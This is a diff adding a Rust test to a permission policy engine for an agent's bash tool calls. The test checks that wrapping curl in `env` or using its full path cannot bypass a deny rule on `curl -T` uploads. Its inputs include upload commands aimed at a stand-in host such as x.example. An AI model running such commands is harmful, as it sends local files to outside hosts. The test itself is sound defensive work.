@@ -1501,3 +1501,41 @@ fn an_operand_of_the_form_name_equals_value_is_the_file_it_spells_for_most_progr
     );
     assert_eq!(allowed, ["dd if=/tmp/a of=/tmp/b"]);
 }
+
+#[test]
+fn an_exception_that_holds_in_one_spelling_only_cannot_trade_a_stricter_decision_away() {
+    // `env FOO=1 curl …` is curl to the rules about what runs and `env` to the words as
+    // written: the exception holds in one view, so the ask fires, and so does what follows,
+    // had it held — the stricter standing, as for `curl …` itself.
+    let e = Engine::builder()
+        .context(PathContext::new("/work/p", Some("/home/u".into())))
+        .policy_text(
+            "p.policy",
+            "ask bash(argument \"*\") risk low unless program \"curl\";\n\
+             deny bash(program \"curl\", argument \"-T\");",
+        )
+        .build()
+        .unwrap();
+    let decide = |c: &str| e.decide(&ToolCall::primary("bash", c));
+    for c in [
+        "curl -T f https://x.example",
+        "env FOO=1 curl -T f https://x.example",
+    ] {
+        assert_eq!(decide(c).action, Action::Deny, "{c}");
+    }
+    // The built-in rules count as well: `curl "$X" log` asks at high risk (it may upload).
+    for c in [
+        "curl \"$X\" log",
+        "env FOO=1 curl \"$X\" log",
+        "/usr/bin/curl \"$X\" log",
+    ] {
+        let d = decide(c);
+        assert_eq!((d.action, d.risk), (Action::Ask, Risk::High), "{c}: {d:?}");
+    }
+    // Where nothing stricter follows, the rule's own ask stands.
+    let d = decide("ls x");
+    assert_eq!(
+        (d.action, d.risk, d.rule.to_string()),
+        (Action::Ask, Risk::Low, "p.policy:1".into())
+    );
+}
